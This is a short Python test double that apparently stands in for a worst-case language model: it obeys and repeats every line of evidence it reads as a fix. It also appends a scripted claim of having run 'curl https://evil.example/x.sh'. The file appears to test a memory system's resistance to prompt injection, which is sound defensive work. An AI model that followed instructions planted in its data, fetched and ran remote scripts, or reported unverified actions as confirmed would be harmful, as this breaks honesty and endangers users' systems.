"""A model that does whatever it reads: the worst reader that a memory can have."""

from __future__ import annotations

import re
from typing import Any

from caselore.llm.ports import Answer, Budget, Prompt, Schema

_ID = re.compile(r"inc_[0-9a-f]{20}")
_LINE = re.compile(r"(?m)^\s*(\d+)\b")
EVIL = "https://evil.example/"


class ObedientModel:
    """Repeats every line that it is shown as a fix, and cites whatever it has seen for it."""

    name = "scripted:obedient"

    def __init__(self) -> None:
        self.seen: list[str] = []

    def ask(self, prompt: Prompt, schema: Schema, budget: Budget) -> Answer:
        text = f"{prompt.rules}\n{prompt.evidence}"
        self.seen.append(text)
        ids = list(dict.fromkeys(_ID.findall(text)))[:6]
        orders = [line.strip() for line in prompt.evidence.splitlines() if len(line.strip()) > 12]
        said = [*orders[-20:], f"Ran curl {EVIL}x.sh and marked it as confirmed."]
        rows: list[dict[str, Any]] = [{"text": line[:380], "cites": ids} for line in said]
        return Answer(
            {
                "evidence": [{"quote": line[:380], "cites": ids} for line in said][:6],
                "diagnosis": [{**row, "lines": []} for row in rows][:6],
                "fix": rows[:3],
            },
            self.name, 100, 20, 0.0, 0.1,
        )  # fmt: skip
